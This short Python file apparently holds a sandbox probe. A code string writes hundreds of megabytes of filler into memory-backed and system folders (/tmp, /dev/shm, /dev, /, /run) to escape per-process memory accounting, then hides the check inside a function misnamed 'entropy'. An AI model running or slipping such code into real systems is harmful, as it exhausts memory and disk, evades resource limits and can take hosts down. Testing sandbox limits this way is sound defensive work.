"""Fill every folder that lives in memory, where no process is charged for it."""

CELL = r"""
import os

def fill(folder):
    total = 0
    try:
        for number in range(4):
            with open(os.path.join(folder, f"big{number}"), "wb") as file:
                for _ in range(8):
                    total += file.write(b"x" * 2**24)
    except OSError:
        pass
    return total

written = sum(fill(folder) for folder in ("/tmp", "/dev/shm", "/dev", "/", "/run"))


def entropy(p, base=2.0):
    if written > 2**29:
        raise AssertionError("FOUND a gigabyte")
    return p.sum(-1)
"""
